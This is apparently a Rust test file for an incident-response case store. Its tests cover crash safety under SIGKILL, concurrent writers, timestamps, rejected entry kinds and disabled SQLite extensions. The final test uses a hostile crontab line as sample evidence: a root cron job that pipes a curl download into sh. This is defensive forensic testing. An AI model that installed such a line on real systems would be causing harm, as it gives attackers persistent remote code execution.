//! The case store under stress: processes killed mid-append, concurrent writers, a pinned clock.

#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::indexing_slicing
)]

use std::path::Path;
use std::process::Command;
use std::time::Duration;

use cordon_case::evidence::{FileRecord, NewItem};
use cordon_case::{Actor, Case, EntryFilter, InitOptions};
use cordon_core::{FixedClock, SystemClock};
use cordon_testkit::CaseParent;
use serde_json::json;

fn actor() -> Actor {
    Actor {
        user: "responder".into(),
        uid: 1000,
        host: "jumpbox".into(),
    }
}

fn new_case(parent: &CaseParent, clock: &dyn cordon_core::Clock) -> Case {
    let opts = InitOptions {
        title: "web01".into(),
        handler: "J. Smith".into(),
        suspect_root: "/".into(),
        allow_suspect_disk: parent.needs_allow,
    };
    Case::init(&parent.case_path("case"), &opts, clock, &actor()).unwrap()
}

const CHILD_ENV: &str = "CORDON_TEST_APPENDER_CASE";

/// Not a test on its own: the child process of `sigkill_during_appends_leaves_a_case_that_verifies`.
/// It appends notes and registers evidence as fast as it can until it is killed.
#[test]
#[ignore = "child process of sigkill_during_appends_leaves_a_case_that_verifies"]
fn child_appender() {
    let Some(dir) = std::env::var_os(CHILD_ENV) else {
        return;
    };
    let mut case = Case::open(Path::new(&dir)).unwrap();
    let mut i = 0u64;
    loop {
        i += 1;
        if i.is_multiple_of(5) {
            // A multi-row transaction: evidence, its files, custody and the journal entry.
            let rel = format!("evidence/child-{}-{i}", std::process::id());
            std::fs::write(Path::new(&dir).join(&rel), i.to_string()).unwrap();
            let sha = {
                use sha2::Digest as _;
                hex::encode(sha2::Sha256::digest(i.to_string()))
            };
            let item = NewItem {
                label: rel.clone(),
                kind: "test".into(),
                path: rel.clone().into_bytes(),
                note: vec![],
                source: b"child".to_vec(),
                source_host: "h".into(),
                method: "test".into(),
                action: "acquired".into(),
                files: vec![FileRecord {
                    path: rel.into_bytes(),
                    sha256: sha,
                    size: i.to_string().len() as u64,
                }],
                details: json!({}),
            };
            case.register_evidence(&SystemClock, &actor(), &item).unwrap();
        } else {
            case.append(
                &SystemClock,
                &actor(),
                "note",
                format!("note {i}").as_bytes(),
                &json!({"i": i}),
            )
            .unwrap();
        }
    }
}

/// A tiny deterministic pseudo-random sequence (no need for a crate to pick kill delays).
fn next_delay(state: &mut u64) -> Duration {
    *state = state
        .wrapping_mul(6364136223846793005)
        .wrapping_add(1442695040888963407);
    Duration::from_micros(2_000 + (*state >> 33) % 40_000)
}

#[test]
fn sigkill_during_appends_leaves_a_case_that_verifies() {
    let parent = CaseParent::new().unwrap();
    drop(new_case(&parent, &SystemClock));
    let dir = parent.case_path("case");
    let exe = std::env::current_exe().unwrap();
    let mut state = 0x5eed_u64;
    let mut last_count = 0;
    let mut grew = 0;
    for round in 0..40 {
        let mut child = Command::new(&exe)
            .args([
                "--exact",
                "child_appender",
                "--ignored",
                "--nocapture",
                "--test-threads=1",
            ])
            .env(CHILD_ENV, &dir)
            .stdout(std::process::Stdio::null())
            .stderr(std::process::Stdio::null())
            .spawn()
            .unwrap();
        std::thread::sleep(next_delay(&mut state));
        child.kill().unwrap(); // SIGKILL
        child.wait().unwrap();

        let case = Case::open(&dir).unwrap();
        let report = case.verify(None).unwrap();
        assert!(
            report.ok(),
            "round {round}: case broken after SIGKILL: chain {:?} head {:?} tables {:?} files {:?}",
            report.chain_break,
            report.head_problem,
            report.table_problems,
            report.file_problems
        );
        assert!(report.entries >= last_count, "entries went backwards");
        if report.entries > last_count {
            grew += 1;
        }
        last_count = report.entries;
    }
    assert!(
        grew >= 20,
        "the child rarely got to append ({grew} of 40 rounds): the test did not exercise kills"
    );
}

#[test]
fn concurrent_writers_in_separate_processes_keep_one_linear_chain() {
    let parent = CaseParent::new().unwrap();
    drop(new_case(&parent, &SystemClock));
    let dir = parent.case_path("case");
    let exe = std::env::current_exe().unwrap();
    let children: Vec<_> = (0..2)
        .map(|_| {
            Command::new(&exe)
                .args(["--exact", "child_appender", "--ignored", "--test-threads=1"])
                .env(CHILD_ENV, &dir)
                .stdout(std::process::Stdio::null())
                .stderr(std::process::Stdio::null())
                .spawn()
                .unwrap()
        })
        .collect();
    std::thread::sleep(Duration::from_millis(1500));
    for mut c in children {
        // Still running means neither writer failed on a lock or a conflict.
        assert!(c.try_wait().unwrap().is_none(), "a concurrent writer died");
        c.kill().unwrap();
        c.wait().unwrap();
    }
    let case = Case::open(&dir).unwrap();
    let report = case.verify(None).unwrap();
    assert!(
        report.ok(),
        "{:?} {:?}",
        report.chain_break,
        report.table_problems
    );
    assert!(report.entries > 50, "only {} entries", report.entries);
}

#[test]
fn entries_carry_the_clocks_time_with_nanoseconds() {
    let parent = CaseParent::new().unwrap();
    let t = jiff::Timestamp::new(1_713_582_847, 123_456_789).unwrap();
    let mut case = new_case(&parent, &FixedClock(t));
    let e = case
        .append(&FixedClock(t), &actor(), "note", b"x", &json!({}))
        .unwrap();
    assert_eq!(e.time, "2024-04-20T03:14:07.123456789Z");
    assert_eq!(e.actor, "responder@jumpbox");
    let mut kinds = Vec::new();
    case.for_each_entry(&EntryFilter::default(), |e| {
        kinds.push(e.kind);
        Ok(())
    })
    .unwrap();
    assert_eq!(kinds, ["case.init", "note"]);
    assert_eq!(case.info().unwrap().created_at, "2024-04-20T03:14:07.123456789Z");
}

#[test]
fn bad_kinds_are_refused_and_nothing_is_written() {
    let parent = CaseParent::new().unwrap();
    let mut case = new_case(&parent, &SystemClock);
    assert!(
        case.append(&SystemClock, &actor(), "Note With Spaces", b"x", &json!({}))
            .is_err()
    );
    assert_eq!(case.summary().unwrap().entries, 1);
}

#[test]
fn the_bundled_sqlite_cannot_load_extensions() {
    // A static binary must never dlopen (it would load the suspect host's libraries): the bundled
    // SQLite is compiled without extension loading (.cargo/config.toml sets LIBSQLITE3_FLAGS).
    let conn = rusqlite::Connection::open_in_memory().unwrap();
    let opts: Vec<String> = conn
        .prepare("PRAGMA compile_options")
        .unwrap()
        .query_map([], |r| r.get(0))
        .unwrap()
        .collect::<Result<_, _>>()
        .unwrap();
    assert!(opts.iter().any(|o| o == "OMIT_LOAD_EXTENSION"), "{opts:?}");
}

#[test]
fn findings_are_stored_once_counted_again_and_journaled() {
    use cordon_core::{Confidence, Finding, Severity};
    let parent = CaseParent::new().unwrap();
    let mut case = new_case(&parent, &SystemClock);
    let cron = Finding::new(
        "cron.download_exec",
        Severity::High,
        Confidence::High,
        "pipes a download into sh",
        "remove",
        "web01",
    )
    .path("/etc/cron.d/x")
    .evidence(b"* * * * * root curl http://203.0.113.7/k | sh\x1b[2J".to_vec());
    let key = Finding::new(
        "ssh.extra_key",
        Severity::Medium,
        Confidence::Medium,
        "unknown key",
        "check",
        "web01",
    )
    .path("/root/.ssh/authorized_keys");
    let r = case
        .record_findings(
            &SystemClock,
            &actor(),
            "hunt",
            "web01",
            &[cron.clone(), key.clone()],
        )
        .unwrap();
    assert_eq!((r.new, r.again), (2, 0));
    let r = case
        .record_findings(
            &SystemClock,
            &actor(),
            "hunt",
            "web01",
            std::slice::from_ref(&cron),
        )
        .unwrap();
    assert_eq!((r.new, r.again), (0, 1));
    let all = case.findings(Severity::Info).unwrap();
    assert_eq!(all, vec![cron.clone(), key]);
    assert_eq!(case.findings(Severity::High).unwrap(), vec![cron]);
    let counts = case.finding_counts().unwrap();
    assert_eq!(counts.get(&Severity::High), Some(&1));
    let mut texts = Vec::new();
    case.for_each_entry(
        &EntryFilter {
            kind: Some("findings".into()),
            ..Default::default()
        },
        |e| {
            texts.push(String::from_utf8(e.text).unwrap());
            Ok(())
        },
    )
    .unwrap();
    assert_eq!(
        texts,
        [
            "hunt on web01: 2 new finding(s) (1 high, 1 medium)",
            "hunt on web01: 0 new finding(s), 1 seen before"
        ]
    );
    assert!(case.verify(None).unwrap().ok());
}
